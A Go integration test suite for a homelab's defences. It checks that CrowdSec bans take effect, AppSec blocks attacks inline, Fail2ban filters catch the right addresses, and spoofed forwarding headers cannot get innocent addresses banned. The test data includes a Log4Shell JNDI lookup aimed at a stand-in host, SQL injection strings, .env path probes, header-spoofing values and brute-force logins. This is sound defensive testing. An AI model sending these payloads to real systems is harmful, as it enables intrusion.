//go:build chain

package chain

import (
	"encoding/json"
	"net/http"
	"net/netip"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"homelab/tests/chain/internal/visitor"
)

// enforced is how long a decision may take to have an effect: the proxy asks for news every ten
// seconds.
const enforced = 20 * time.Second

// Visitors who end up banned.
const (
	condemned = "203.0.113.77"
	guesser   = "203.0.113.99"
	scanner   = "203.0.113.98"
)

// banned waits until the place's requests are refused, and returns how long it took.
func (s *stage) banned(t testing.TB, place visitor.Place, session ticket) time.Duration {
	t.Helper()
	began := time.Now()
	for {
		a, err := session.give(t, place.Browser("h2")).Get(t.Context(), requests+"/banned")
		require.NoError(t, err)
		if a.Status == http.StatusForbidden {
			s.Service("jellyseerr").Take()
			return time.Since(began)
		}
		require.Less(t, time.Since(began), enforced, "the visitor %s has a decision against him and is still served (%d)", place.Visitor, a.Status)
		time.Sleep(250 * time.Millisecond)
	}
}

// decision is one of CrowdSec's.
type decision struct {
	Value    string `json:"value"`
	Scope    string `json:"scope"`
	Scenario string `json:"scenario"`
	Type     string `json:"type"`
}

// decisions are all that CrowdSec has made. A refused login is tried again: the SQLite that this
// CrowdSec is built with, without cgo, does not wait for a database that another request is writing
// to, and the local API says "incorrect password" then.
func (s *stage) decisions(t testing.TB) []decision {
	t.Helper()
	var text string
	require.Eventually(t, func() (ok bool) {
		var err error
		text, err = s.Box("crowdsec").Exec(nil, "cscli", "decisions", "list", "-o", "json")
		if err != nil {
			t.Logf("asking again: %v", err)
		}
		return err == nil
	}, 15*time.Second, 500*time.Millisecond, "CrowdSec does not say what it has decided")
	var alerts []struct {
		Decisions []decision `json:"decisions"`
	}
	require.NoError(t, json.Unmarshal([]byte(text), &alerts), text)
	var all []decision
	for _, a := range alerts {
		all = append(all, a.Decisions...)
	}
	return all
}

// decided waits for a decision against an address, and requires that none is against anybody who
// must never be banned.
func (s *stage) decided(t testing.TB, address, scenario string) {
	t.Helper()
	want, began := decision{Value: address, Scope: "Ip", Scenario: scenario, Type: "ban"}, time.Now()
	all := s.decisions(t)
	for ; !slices.Contains(all, want); all = s.decisions(t) {
		require.Less(t, time.Since(began), 15*time.Second, "no %+v among %+v", want, all)
		time.Sleep(500 * time.Millisecond)
	}
	for _, d := range all {
		got, err := netip.ParseAddr(d.Value)
		require.NoError(t, err)
		for _, never := range []string{"173.245.48.0/20", "100.64.0.0/10", "172.30.0.0/16", "127.0.0.0/8", "198.18.0.0/15"} {
			assert.False(t, netip.MustParsePrefix(never).Contains(got), "%s is banned: that is not the attacker, but Cloudflare, ourselves, or whom the attacker named", got)
		}
	}
}

// condemn has the administrator ban a visitor.
func (s *stage) condemn(t testing.TB) {
	t.Helper()
	_, err := s.Box("crowdsec").Exec(nil, "cscli", "decisions", "add", "--ip", condemned, "--duration", "1h", "--reason", "chain test")
	require.NoError(t, err)
}

// testEnforcement shows that detection has consequences, for the right address.
func testEnforcement(t *testing.T, s *stage, family *person, session ticket) {
	t.Run("a decision is enforced within 20 seconds", func(t *testing.T) {
		s.condemn(t)
		took := s.banned(t, s.cloudflare.From(condemned), session)
		t.Logf("it took %s", took.Round(100*time.Millisecond))
		for _, lie := range lies {
			if lie.name == "Connection" {
				continue
			}
			b := session.give(t, s.cloudflare.From(condemned).Browser("http/1.1"))
			a, err := b.Do(t.Context(), visitor.Request{URL: requests + "/", Header: map[string]string{lie.name: lie.value}})
			s.refused(t, a, err)
			assert.Equal(t, http.StatusForbidden, a.Status, "%s: %s lifts the ban", lie.name, lie.value)
		}
		a, err := s.cloudflare.From(condemned).Browser("h2").Get(t.Context(), portal+"/")
		require.NoError(t, err)
		assert.Equal(t, http.StatusForbidden, a.Status, "the portal still talks to a banned visitor")
		a, err = session.give(t, s.cloudflare.Browser("h2")).Get(t.Context(), requests+"/")
		s.served(t, "jellyseerr", a, err)
	})
	t.Run("an attack is blocked in line", func(t *testing.T) { testInspection(t, s, session) })
	t.Run("failed logins ban the visitor who made them", func(t *testing.T) {
		place := s.cloudflare.From(guesser)
		var group sync.WaitGroup
		for range 8 {
			group.Go(func() {
				a, err := place.Browser("http/1.1").Do(t.Context(), visitor.Request{
					Method: http.MethodPost, URL: portal + "/api/firstfactor", Body: `{"username":"family","password":"guess"}`,
					// Whom an attacker would like to see banned.
					Header: map[string]string{"X-Forwarded-For": "198.18.0.9", "Forwarded": "for=198.18.0.9", "X-Real-IP": "198.18.0.9", "CF-Connecting-IP": "198.18.0.9"},
				})
				assert.NoError(t, err)
				assert.NotEqual(t, http.StatusOK, a.Status)
			})
		}
		group.Wait()
		s.decided(t, guesser, "chain/logins")
		s.banned(t, place, session)
		a, err := session.give(t, s.cloudflare.Browser("h2")).Get(t.Context(), requests+"/")
		s.served(t, "jellyseerr", a, err)
		t.Run("and nobody else out of his account", func(t *testing.T) {
			b := s.cloudflare.From("203.0.113.30").Browser("h2")
			family.login(t, b)
			a, err := b.Get(t.Context(), requests+"/")
			s.served(t, "jellyseerr", a, err)
		})
	})
	t.Run("an ended session does not ban its own user", func(t *testing.T) {
		person := s.cloudflare.From("203.0.113.31").Browser("h2")
		for range 20 {
			a, err := person.Do(t.Context(), visitor.Request{URL: requests + "/api/v1/poll", Header: map[string]string{"X-Requested-With": "XMLHttpRequest", "Accept": "application/json"}})
			require.NoError(t, err)
			require.Equal(t, http.StatusUnauthorized, a.Status)
		}
		// The same number of the same answers, where no page polls, shows that the scenario is
		// awake.
		attacker := s.cloudflare.From(scanner).Browser("h2")
		for range 20 {
			status, _, err := post(t.Context(), attacker, http.MethodPost, "/api/checks/safe-redirection", map[string]any{"uri": "https://x"}, nil)
			require.NoError(t, err)
			require.Equal(t, http.StatusUnauthorized, status)
		}
		s.decided(t, scanner, "chain/unauthorized")
		for _, d := range s.decisions(t) {
			assert.NotEqual(t, "203.0.113.31", d.Value, "a page that polls banned its own user")
		}
	})
	t.Run("Fail2ban finds the same addresses in the same logs", func(t *testing.T) { testFail2ban(t, s) })
}

// testInspection sends attacks that AppSec has rules against.
func testInspection(t *testing.T, s *stage, session ticket) {
	b := session.give(t, s.cloudflare.From("203.0.113.32").Browser("h2"))
	private := s.tailnet.Browser("h2")
	for name, r := range map[string]visitor.Request{
		"in the path":              {URL: requests + "/.env"},
		"in the path, in capitals": {URL: requests + "/a/.ENV"},
		"in the path, encoded":     {URL: requests + "/%2eenv"},
		"in the query":             {URL: requests + "/?q=1+UNION%20SELECT+2"},
		"in a form":                {Method: http.MethodPost, URL: requests + "/", Body: "q=1+union+select+2", Header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}},
		"in a body":                {Method: http.MethodPost, URL: requests + "/", Body: `{"x":"${jndi:ldap://evil.example.org/x}"}`},
		"behind much else":         {Method: http.MethodPost, URL: requests + "/", Body: strings.Repeat(" ", 900<<10) + `${jndi:ldap://evil.example.org/x}`},
		"at the portal":            {URL: portal + "/.env"},
		"with headers for AppSec": {URL: requests + "/.env", Header: map[string]string{
			"X-Crowdsec-Appsec-Uri": "/", "X-Crowdsec-Appsec-Ip": "127.0.0.1", "X-Crowdsec-Appsec-Verb": "GET", "X-Crowdsec-Appsec-Host": "x",
		}},
	} {
		t.Run(name, func(t *testing.T) {
			a, err := b.Do(t.Context(), r)
			s.refused(t, a, err)
			require.NoError(t, err)
			assert.Contains(t, []int{http.StatusForbidden, http.StatusBadRequest}, a.Status)
		})
	}
	t.Run("on the tailnet", func(t *testing.T) {
		a, err := private.Get(t.Context(), films+"/.env")
		s.refused(t, a, err)
		assert.Equal(t, http.StatusForbidden, a.Status)
	})
	a, err := b.Get(t.Context(), requests+"/environment")
	s.served(t, "jellyseerr", a, err)
}

// testFail2ban runs the rendered filters over what the programs really wrote.
func testFail2ban(t *testing.T, s *stage) {
	addresses := func(log, filter string) []string {
		out, err := exec.CommandContext(t.Context(), "fail2ban-regex", "--out", "ip",
			s.Deployment.Path("/opt/homelab/"+log), s.Deployment.Path("/etc/fail2ban/filter.d/"+filter)).CombinedOutput()
		require.NoError(t, err, "%s", out)
		return strings.Fields(string(out))
	}
	guessers := addresses("authelia/logs/authelia.log", "homelab-authelia.conf")
	assert.Contains(t, guessers, guesser)
	refused := addresses("caddy/logs/access.log", "homelab-caddy.conf")
	assert.Contains(t, refused, condemned)
	for _, found := range append(guessers, refused...) {
		address, err := netip.ParseAddr(found)
		require.NoError(t, err, "the filter takes %q for an address", found)
		assert.False(t, netip.MustParsePrefix("173.245.48.0/20").Contains(address) || netip.MustParsePrefix("198.18.0.0/15").Contains(address),
			"Fail2ban would ban %s, who is not the attacker", found)
	}
}
